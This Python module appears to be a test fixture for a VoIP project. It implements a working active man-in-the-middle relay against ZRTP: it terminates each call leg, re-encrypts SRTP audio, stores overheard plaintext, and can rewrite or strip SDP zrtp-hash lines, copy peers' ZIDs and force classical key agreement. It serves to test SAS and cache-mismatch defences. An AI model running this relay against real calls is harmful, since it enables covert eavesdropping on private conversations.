"""An active man in the middle: it terminates ZRTP on each leg and re-encrypts the audio.

This is the attack ZRTP's SAS exists for (RFC 6189 §4.3 note, §15.1 "the SAS defeats MiTM"): the
relay sits in the SIP path (sip_relay.py rewrites the SDP so media comes to it) and runs one
complete ZRTP endpoint per leg, using deskphone's own `ZrtpSession`, each leg with its own empty
retained-secret cache. Both phones get a perfectly valid SRTP session, each with the relay; the
relay decrypts what one phone sends and re-encrypts it for the other (deskphone.media.srtp), so the
call works and the attacker hears everything. What it cannot do is make the two legs' SAS equal:
the two phones show different SAS, which the people catch by reading it out.

Two attacker strategies (`impersonate_zids`):

* False (a new identity per leg): each leg has a fresh random ZID and the relay rewrites each
  SDP's `a=zrtp-hash` to the hash of its own Hello on that leg (RFC 6189 §8.1), so even a phone
  that checks the binding between SDP and Hello has nothing to complain about. The phones see an
  unknown peer: "secure", SAS not yet verified.
* True (steal the peers' identities): a ZID travels in the clear in every Hello (§5.2), so the
  leg facing A presents B's ZID and the leg facing B presents A's; each leg is created when the
  Hello it needs to copy arrives. The `a=zrtp-hash` lines are removed (the relay cannot produce a
  Hello hashing to the real one; without integrity-protected signalling nothing stops this). A
  phone that verified the SAS with the real peer before holds a retained secret the relay cannot
  know: its rs1 check fails and it raises the cache mismatch alarm (§4.3.2, §4.6.1) — the
  "POSSIBLE MITM" screen.

A patient attacker keeps what it learnt (`remember_secrets`): one cache shared by every leg and
every call, so after one call through it the relay holds an rs1 with each phone; a phone that
replaced its old rs1 with that one after a mismatch would greet the next attack as a plain
"secure" call (RFC 6189 §4.6.1.1 is why it must not). `cache_expiration` is what its Confirms ask
the phones to keep rs1 for (§5.7); 0 asks them to forget. `key_agreements` is what its legs offer
(default: deskphone's own, DPQ1 first); ("X255",) plays a MITM that keys both legs classically,
so that what it records stays open to a future quantum computer.

`zrtp_hash="keep"` plays a clumsier attacker who leaves the SDP alone: a phone that checks the
peer's Hello against the `a=zrtp-hash` of its SDP (§8.1.1) then refuses the handshake.

The SAS each leg computed is kept in memory for the test to compare (never logged).
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import logging
import os
import secrets
from collections import deque
from typing import Any

from deskphone.media.demux import PacketKind, classify
from deskphone.media.srtp import SrtpContext
from deskphone.sdp import Attribute, SessionDescription
from deskphone.zrtp import events as zev
from deskphone.zrtp import packets
from deskphone.zrtp.cache import NEVER_EXPIRES, ZrtpCache
from deskphone.zrtp.session import ZrtpConfig, ZrtpSession

from .media_relay import MediaRelay
from .sip_relay import CallMedia, Side, SipRelay
from .udp import Addr

log = logging.getLogger(__name__)

PENDING_ZRTP = 16  # ZRTP packets kept from a phone while its leg waits for a ZID to copy
OVERHEARD_PACKETS = 3000  # decrypted RTP kept per direction: 60 s of 20 ms frames
ZRTP_HASH_STRATEGIES = ("rewrite", "strip", "keep")


class ZrtpLeg:
    """One complete ZRTP endpoint facing one phone, with its own cache and SRTP context."""

    def __init__(self, media: MitmMedia, side: Side, zid: bytes) -> None:
        self.media = media
        self.side = side
        self.zid = zid
        self.owns_cache = media.shared_cache is None
        self.cache = media.shared_cache or ZrtpCache(":memory:")
        config = ZrtpConfig(zid=zid, cache_expiration=media.cache_expiration)
        if media.key_agreements is not None:
            config = dataclasses.replace(config, key_agreements=media.key_agreements)
        self.session = ZrtpSession(config,
                                   ssrc=secrets.randbits(32),
                                   lookup_secrets=self.cache.lookup,
                                   store_secrets=self.cache.store)
        self.srtp: SrtpContext | None = None
        self.outcome: str | None = None  # "secure", "mismatch" or "not secure: <reason>"
        self.sas: str | None = None
        self.peer_zid: bytes | None = None
        self.started = False
        self._timer: asyncio.TimerHandle | None = None

    def _now(self) -> float:
        return self.media.loop.time()

    def start(self) -> None:
        if not self.started:
            self.started = True
            self.session.start(self._now())
            self.pump()

    def receive(self, data: bytes) -> None:
        self.session.receive_datagram(data, self._now())
        self.pump()

    def pump(self) -> None:
        for packet in self.session.datagrams_to_send(self._now()):
            self.media.send_to(self.side, packet)
        while (event := self.session.next_event()) is not None:
            if isinstance(event, zev.Secure | zev.CacheMismatch):
                # "local" protects what this leg sends to its phone (architecture.md).
                self.srtp = SrtpContext(event.srtp)
                self.sas = event.sas
                self.peer_zid = event.peer_zid
                self.outcome = "mismatch" if isinstance(event, zev.CacheMismatch) else "secure"
                log.info("mitm %s: leg facing the %s is %s (%s)", self.media.call_id,
                         self.side.value, self.outcome, event.key_agreement)
            elif isinstance(event, zev.NotSecure):
                self.outcome = f"not secure: {event.reason}"
                log.info("mitm %s: leg facing the %s failed: %s", self.media.call_id,
                         self.side.value, event.reason)
        self._arm()

    def _arm(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None
        when = self.session.get_timer()
        if when is not None and not self.media.closed:
            self._timer = self.media.loop.call_later(max(0.0, when - self._now()), self._fired)

    def _fired(self) -> None:
        self._timer = None
        if not self.media.closed:
            self.session.handle_timer(self._now())
            self.pump()

    def close(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None
        if self.owns_cache:
            with contextlib.suppress(Exception):
                self.cache.close()

    def snapshot(self) -> dict[str, Any]:
        return {
            "state": self.session.state.value, "role": self.session.role,
            "outcome": self.outcome, "sas": self.sas, "zid": self.zid.hex(),
            "peer_zid": self.peer_zid.hex() if self.peer_zid else None,
            "zrtp": dataclasses.asdict(self.session.stats),
            "srtp": dataclasses.asdict(self.srtp.stats) if self.srtp else None,
        }


class MitmMedia(MediaRelay):
    """Both ZRTP legs of one call and the SRTP re-encryption between them."""

    def __init__(self, loop: asyncio.AbstractEventLoop, call_id: str, *,
                 impersonate_zids: bool, zrtp_hash: str | None = None,
                 shared_cache: ZrtpCache | None = None,
                 cache_expiration: int = NEVER_EXPIRES,
                 key_agreements: tuple[str, ...] | None = None) -> None:
        super().__init__(loop, call_id)
        self.key_agreements = key_agreements
        self.shared_cache = shared_cache
        self.cache_expiration = cache_expiration
        self.impersonate_zids = impersonate_zids
        self.zrtp_hash = zrtp_hash_strategy(impersonate_zids, zrtp_hash)
        self.legs: dict[Side, ZrtpLeg | None] = {Side.CALLER: None, Side.CALLEE: None}
        self.hello_zid: dict[Side, bytes | None] = {Side.CALLER: None, Side.CALLEE: None}
        self.pending: dict[Side, deque[bytes]] = {s: deque(maxlen=PENDING_ZRTP) for s in Side}
        self.overheard: dict[Side, deque[tuple[int, bytes]]] = {
            s: deque(maxlen=OVERHEARD_PACKETS) for s in Side}
        if not impersonate_zids:
            for side in Side:
                self.legs[side] = ZrtpLeg(self, side, os.urandom(12))

    # -- signalling -----------------------------------------------------------------------------

    def filter_sdp(self, sender: Side, sdp: SessionDescription) -> SessionDescription:
        if self.zrtp_hash == "keep":
            return sdp
        receiver = sender.other
        leg = self.legs[receiver] if self.zrtp_hash == "rewrite" else None
        media = []
        for m in sdp.media:
            attributes = tuple(a for a in m.attributes if a.name.lower() != "zrtp-hash")
            if leg is not None and m.media == "audio" and m.port != 0:
                # RFC 6189 §8.1: the hash of the Hello the receiver will get from this leg.
                attributes += (Attribute("zrtp-hash", leg.session.hello_hash()),)
            media.append(dataclasses.replace(m, attributes=attributes))
        session_attributes = tuple(a for a in sdp.attributes if a.name.lower() != "zrtp-hash")
        return dataclasses.replace(sdp, attributes=session_attributes, media=tuple(media))

    # -- media ----------------------------------------------------------------------------------

    def _received(self, side: Side, data: bytes) -> None:
        kind = classify(data)
        if kind is PacketKind.ZRTP:
            self._zrtp(side, data)
        elif kind in (PacketKind.RTP, PacketKind.RTCP):
            self._srtp(side, kind, data)
        else:
            self.counters[f"dropped {kind.value} from {side.value}"] += 1

    def _zrtp(self, side: Side, data: bytes) -> None:
        self.counters[f"zrtp from {side.value}"] += 1
        if self.hello_zid[side] is None:
            with contextlib.suppress(packets.MalformedPacket):
                message = packets.decode_packet(data).message
                if packets.message_type(message) == packets.Hello.TYPE:
                    self.hello_zid[side] = packets.Hello.parse(message).zid
        leg = self.legs[side]
        if leg is None and self.impersonate_zids:
            stolen = self.hello_zid[side.other]  # the leg facing `side` poses as the other phone
            if stolen is None:
                self.pending[side].append(data)
                # This phone's Hello may be what the other leg has been waiting for.
                self._create_waiting_leg(side.other)
                return
            leg = self.legs[side] = ZrtpLeg(self, side, stolen)
        if leg is None:
            return
        leg.start()  # the phone is talking ZRTP: its media stream is up
        backlog = list(self.pending[side])
        self.pending[side].clear()
        for packet in [*backlog, data]:
            leg.receive(packet)
        if self.impersonate_zids:
            self._create_waiting_leg(side.other)

    def _create_waiting_leg(self, side: Side) -> None:
        """Create the leg facing `side` if its phone has spoken and the ZID to steal is known."""
        if self.legs[side] is not None or not self.pending[side]:
            return
        stolen = self.hello_zid[side.other]
        if stolen is None:
            return
        leg = self.legs[side] = ZrtpLeg(self, side, stolen)
        leg.start()
        backlog = list(self.pending[side])
        self.pending[side].clear()
        for packet in backlog:
            leg.receive(packet)

    def _srtp(self, side: Side, kind: PacketKind, data: bytes) -> None:
        inbound, outbound = self.legs[side], self.legs[side.other]
        if inbound is None or outbound is None or inbound.srtp is None or outbound.srtp is None:
            self.counters[f"{kind.value} before both legs were secure"] += 1
            return
        if kind is PacketKind.RTP:
            plain = inbound.srtp.unprotect(data)
            if plain is None:
                self.counters[f"rtp failed to decrypt from {side.value}"] += 1
                return
            if len(plain) > 12:
                self.overheard[side].append((plain[1] & 0x7F, _rtp_payload(plain)))
            sent = self.send_to(side.other, outbound.srtp.protect(plain))
        else:
            rtcp = inbound.srtp.unprotect_rtcp(data)
            if rtcp is None:
                self.counters[f"rtcp failed to decrypt from {side.value}"] += 1
                return
            sent = self.send_to(side.other, outbound.srtp.protect_rtcp(rtcp))
        if sent:
            self.counters[f"{kind.value} relayed from {side.value}"] += 1

    def close(self) -> None:
        super().close()
        for leg in self.legs.values():
            if leg is not None:
                leg.close()

    def snapshot(self) -> dict[str, Any]:
        return {
            "legs": {side.value: leg.snapshot() if leg is not None else None
                     for side, leg in self.legs.items()},
            "hello_zids": {side.value: zid.hex() if zid else None
                           for side, zid in self.hello_zid.items()},
            "counters": dict(self.counters),
            "remote": {side.value: addr for side, addr in self.remote.items()},
            "ports": {side.value: port.port for side, port in self.ports.items()},
        }


def zrtp_hash_strategy(impersonate_zids: bool, zrtp_hash: str | None) -> str:
    """The a=zrtp-hash strategy, checked: default "strip" when stealing ZIDs, else "rewrite"."""
    strategy = zrtp_hash or ("strip" if impersonate_zids else "rewrite")
    if strategy not in ZRTP_HASH_STRATEGIES:
        raise ValueError(f"mitm zrtp_hash {zrtp_hash!r}: expected one of {ZRTP_HASH_STRATEGIES}")
    if strategy == "rewrite" and impersonate_zids:
        raise ValueError("mitm zrtp_hash 'rewrite' needs impersonate_zids=False: a leg that "
                         "copies a ZID is only created after the SDP has passed")
    return strategy


def _rtp_payload(packet: bytes) -> bytes:
    """RFC 3550 §5.1: skip the fixed header, CSRCs and a header extension; strip padding."""
    csrc_count = packet[0] & 0x0F
    offset = 12 + 4 * csrc_count
    if packet[0] & 0x10 and len(packet) >= offset + 4:
        offset += 4 + 4 * int.from_bytes(packet[offset + 2:offset + 4], "big")
    end = len(packet)
    if packet[0] & 0x20 and end > offset:
        end -= packet[-1]
    return packet[offset:max(offset, end)]


class MitmRelay:
    """The attacker's box: SIP relay + per-call ZRTP termination; phones reach `target` by
    calling `uri_for(user)`."""

    def __init__(self, loop: asyncio.AbstractEventLoop, target: Addr, *,
                 impersonate_zids: bool = True, zrtp_hash: str | None = None,
                 remember_secrets: bool = False, cache_expiration: int = NEVER_EXPIRES,
                 key_agreements: tuple[str, ...] | None = None, port: int = 0) -> None:
        self.loop = loop
        self.key_agreements = key_agreements
        self.impersonate_zids = impersonate_zids
        self.cache = ZrtpCache(":memory:") if remember_secrets else None
        self.cache_expiration = cache_expiration
        self.zrtp_hash = zrtp_hash_strategy(impersonate_zids, zrtp_hash)
        self.media: dict[str, MitmMedia] = {}
        self.sip = SipRelay(loop, target, self._new_media, port=port)

    def _new_media(self, call_id: str) -> CallMedia:
        media = MitmMedia(self.loop, call_id, impersonate_zids=self.impersonate_zids,
                          zrtp_hash=self.zrtp_hash, shared_cache=self.cache,
                          cache_expiration=self.cache_expiration,
                          key_agreements=self.key_agreements)
        self.media[call_id] = media
        return media

    def uri_for(self, user: str) -> str:
        return self.sip.uri_for(user)

    def latest(self) -> MitmMedia | None:
        return next(reversed(self.media.values()), None)

    def snapshot(self) -> dict[str, Any]:
        return {"sip": dataclasses.asdict(self.sip.stats),
                "calls": {call_id: m.snapshot() for call_id, m in self.media.items()}}

    def close(self) -> None:
        self.sip.close()
        for media in self.media.values():
            media.close()
        if self.cache is not None:
            self.cache.close()
